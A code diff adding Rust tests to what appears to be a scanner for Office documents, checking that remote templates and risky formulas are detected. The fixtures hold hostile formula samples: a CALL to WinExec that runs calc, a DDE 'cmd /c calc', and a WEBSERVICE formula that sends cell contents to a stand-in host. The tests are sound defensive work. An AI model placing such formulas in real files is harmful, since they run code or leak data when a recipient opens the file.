@@ -46,6 +46,9 @@ fn what_is_fetched_from_elsewhere_is_reported() {
         ("oleObject", "\\\\host.invalid\\share\\a", Some("ooxml.external-template")),
         ("image", "file://host.invalid/a.png", Some("ooxml.external-image")),
         ("oleObject", "file:///%5C%5Chost.invalid%5Ca", Some("ooxml.external-template")),
+        ("package", "https://host.invalid/a.xlsx", Some("ooxml.external-template")),
+        ("extensibility", "https://host.invalid/a.xml", Some("ooxml.external-template")),
+        ("package", "file:///C:\\Users\\a\\Figures.xlsx", None),
         // The writer's own disk, and whoever opens it has none of that name.
         ("attachedTemplate", "file:///C:\\Users\\a\\Letterhead.dotx", None),
         ("oleObject", "file:///E:\\a.xlsx", None),
@@ -312,4 +315,20 @@ fn a_slide_that_runs_a_program_and_a_formula_that_asks_one_are_reported() {
     }
     let sheet = r#"<sheetData><c r="A1"><f>1+cmd|&apos;/c calc&apos;!A0</f></c></sheetData>"#;
     assert_eq!(check(&[("xl/worksheets/sheet1.xml", sheet.as_bytes())]).bytes("//dde"), b"cmd /c calc");
+}
+
+#[test]
+fn a_formula_that_calls_a_library_is_reported_and_one_that_fetches_is_told() {
+    for (formula, reported) in [
+        ("CALL(\"kernel32\",\"WinExec\",\"JFJ\",\"calc\",1)", Some("ooxml.library-formula")),
+        ("RTD(\"a.b\",\"host.invalid\",\"c\")", Some("ooxml.library-formula")),
+        ("_xlfn.WEBSERVICE(\"https://host.invalid/?\"&amp;A1)", Some("ooxml.web-formula")),
+        ("RTD(\"a.b\",,\"c\")", None),
+        ("IF(A1&gt;0,\"CALL(\",SUM(B1:B9))", None),
+    ] {
+        let sheet = format!("<x:sheetData><x:c r=\"A1\"><x:f>{formula}</x:f></x:c></x:sheetData>");
+        let recorded = check(&[("xl/worksheets/sheet1.xml", sheet.as_bytes())]);
+        let found = recorded.findings.iter().map(|finding| &*finding.id).find(|id| id.starts_with("ooxml."));
+        assert_eq!(found, reported, "{formula}");
+    }
 }
